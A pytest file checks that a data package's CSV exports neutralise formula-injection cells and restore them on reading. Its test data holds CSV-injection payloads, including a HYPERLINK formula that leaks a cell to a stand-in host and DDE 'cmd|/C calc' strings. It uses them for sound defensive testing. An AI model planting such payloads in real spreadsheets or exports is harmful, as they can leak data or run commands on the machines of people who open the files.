"""Safe output: no CSV cell can start a spreadsheet formula, and the prefix is undone on reading.

OWASP CSV injection: a text cell starting with =, +, -, @, a tab or a carriage
return may run as a formula. The build's CSVs prefix such cells with ``'``;
:func:`dashlib.building.store.read_tables` strips it, giving every cell back exactly.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dashlib import schemas
from dashlib.building import store
from dashlib.building.load import SourceFile
from dashlib.building.pipeline import build_tables
from dashlib.csvsafe import FORMULA_STARTS, neutralize_cell, restore_cell, to_csv_bytes
from dashlib.tables import TABLE_NAMES, Tables

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "'already quoted",
    "=",
]

PLANTED_ARTICLE = (
    'Title: =HYPERLINK("http://example.invalid","x")\n'
    "Source: +cmd|' /C calc'!A0\n"
    "Date: 2025-03-12\n"
    "\n"
    "=1+1 Officials said 18 soldiers were killed in an attack on a checkpoint in Turbat on March 11, 2025.\n"
    "+Quetta: The army said 12 militants were killed in Quetta.\n"
    "-The BLA claimed that over 40 soldiers died in Turbat.\n"
    "@Kech: Police said 3 civilians were injured in a blast in Kech.\n"
    "\t=SUM(A1) Residents said 5 people were wounded near Gwadar.\n"
    "'Quoted start: officials said 2 passengers were killed near Sibi.\n"
)


def raw_cells(path: Path) -> list[list[str]]:
    """Rows of a CSV exactly as a spreadsheet would see them (no prefix undone)."""
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


NUMBER = re.compile(r"[-+]?(\d+(\.\d*)?|\.\d+)([eE][-+]?\d+)?")


def assert_formula_safe(path: Path) -> int:
    """No text cell starts a formula (a plain number such as -5 is a number, not a formula).

    Returns how many cells carry the protective prefix.
    """
    prefixed = 0
    for r, row in enumerate(raw_cells(path)):
        for c, cell in enumerate(row):
            if NUMBER.fullmatch(cell):
                continue
            assert not cell.startswith(tuple(FORMULA_STARTS)), (path.name, r, c, cell[:60])
            if cell.startswith("'"):
                prefixed += 1
    return prefixed


def string_cells(tables: Tables):
    for name, df in tables.items():
        for col in df.columns:
            if df[col].dtype == "string":
                for i, v in enumerate(df[col].tolist()):
                    if isinstance(v, str):
                        yield name, col, i, v


def test_planted_article_builds_safe_csvs_that_read_back_exactly(tmp_path):
    tables = build_tables([SourceFile("=evil.txt", PLANTED_ARTICLE.encode())])
    assert tables.report["files_read"] == 1
    art = tables.articles.iloc[0]
    # the planted cells really are dangerous in memory
    assert art["file"].startswith("=")
    assert art["title"].startswith("=HYPERLINK")
    assert art["text"].startswith("=1+1")
    dangerous = [
        (n, c, i, v) for n, c, i, v in string_cells(tables) if v.startswith((*DANGEROUS, "'"))
    ]
    assert len(dangerous) >= 3

    store.write_tables(tables, tmp_path)
    prefixed = 0
    for name in TABLE_NAMES:
        prefixed += assert_formula_safe(tmp_path / f"{name}.csv")
    assert prefixed >= len(dangerous)
    # every dangerous cell is written as ' + value
    raw = {
        name: pd.read_csv(tmp_path / f"{name}.csv", dtype=str, keep_default_na=False)
        for name in TABLE_NAMES
    }
    for name, col, i, value in dangerous:
        assert raw[name].loc[i, col] == "'" + value.replace("\r\n", "\n"), (name, col, i)

    back = store.read_tables(tmp_path)
    for name in TABLE_NAMES:
        pd.testing.assert_frame_equal(
            back.frame(name), tables.frame(name), check_exact=True, obj=name
        )


def test_quotes_starting_with_formula_characters_survive(tmp_path):
    """Whatever the rules quote from the planted lines, the quote still equals the text slice after a round trip."""
    tables = build_tables([SourceFile("a.txt", PLANTED_ARTICLE.encode())])
    store.write_tables(tables, tmp_path)
    back = store.read_tables(tmp_path)
    texts = dict(zip(back.articles["article_id"], back.articles["text"], strict=True))
    for name in ("claims", "targets", "mentions"):
        for row in back.frame(name).itertuples(index=False):
            assert texts[row.article_id][row.char_start : row.char_end] == row.quote


def _row(table: str, value: str) -> dict:
    row = {}
    for col in schemas.TABLES[table]:
        if col.kind == "str":
            row[col.name] = value if col.allowed is None else col.allowed[0]
        elif col.kind == "int":
            row[col.name] = -5
        elif col.kind == "float":
            row[col.name] = -1.5
        else:
            row[col.name] = True
    return row


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_free_text_column_of_every_table(tmp_path, payload):
    frames = {
        name: schemas.conform(pd.DataFrame([_row(name, payload), _row(name, "plain")]), name)
        for name in TABLE_NAMES
    }
    tables = Tables(**frames, report={"note": payload})
    store.write_tables(tables, tmp_path)
    for name in TABLE_NAMES:
        assert_formula_safe(tmp_path / f"{name}.csv")
        raw = pd.read_csv(tmp_path / f"{name}.csv", dtype=str, keep_default_na=False)
        for col in schemas.TABLES[name]:
            if col.kind == "str" and col.allowed is None:
                assert raw.loc[0, col.name] == neutralize_cell(payload), (name, col.name)
                assert raw.loc[1, col.name] == "plain"
            if col.kind == "int":
                assert raw.loc[0, col.name] == "-5"  # numbers are numbers, not text: left alone
    back = store.read_tables(tmp_path)
    for name in TABLE_NAMES:
        pd.testing.assert_frame_equal(
            back.frame(name), tables.frame(name), check_exact=True, obj=name
        )


@settings(max_examples=150, deadline=None)
@given(st.lists(st.text(max_size=30), min_size=1, max_size=8))
def test_any_text_round_trips_and_never_starts_a_formula(values):
    df = schemas.conform(
        pd.DataFrame(
            {"article_id": [f"a{i}" for i in range(len(values))], "title": values, "text": values}
        ),
        "articles",
    )
    data = to_csv_bytes(df)
    for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")):
        for cell in row:
            assert not cell.startswith(tuple(FORMULA_STARTS))
    raw = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False, na_values=[])
    back = store._typed(raw, "articles")
    back = schemas.conform(back, "articles")
    assert back["title"].tolist() == df["title"].tolist()
    assert back["text"].tolist() == df["text"].tolist()


@given(st.text())
def test_neutralize_restore_inverse(value):
    assert restore_cell(neutralize_cell(value)) == value
    assert not neutralize_cell(value).startswith(tuple(FORMULA_STARTS))


def test_export_table_csv_is_formula_safe(tmp_path):
    export = pytest.importorskip("dashlib.reading.export")
    tables = build_tables([SourceFile("=evil.txt", PLANTED_ARTICLE.encode())])
    for name in TABLE_NAMES:
        data = export.table_csv(tables, name)
        path = tmp_path / f"{name}.csv"
        path.write_bytes(data)
        assert_formula_safe(path)
        raw = pd.read_csv(path, dtype=str, keep_default_na=False, na_values=[])
        for col in raw.columns:
            for value in raw[col]:
                original = restore_cell(value)
                if original.startswith(tuple(FORMULA_STARTS)):
                    assert value == "'" + original


def test_cli_export_is_formula_safe(tmp_path):
    """`dashlib export` writes the same formula-safe bytes as the build."""
    cli = pytest.importorskip("dashlib.cli")
    arts = tmp_path / "articles"
    arts.mkdir()
    (arts / "=evil.txt").write_text(PLANTED_ARTICLE, "utf-8")
    out = tmp_path / "build"
    assert cli.main(["build", "--articles", str(arts), "--out", str(out)]) == 0
    for table in TABLE_NAMES:
        target = tmp_path / f"export_{table}.csv"
        assert cli.main(["export", "--table", table, "--data", str(out), "--out", str(target)]) == 0
        assert_formula_safe(target)
    raw = pd.read_csv(
        tmp_path / "export_articles.csv", dtype=str, keep_default_na=False, na_values=[]
    )
    assert any(v.startswith("'=") for v in raw["title"])
    assert any(v.startswith("'=") for v in raw["file"])
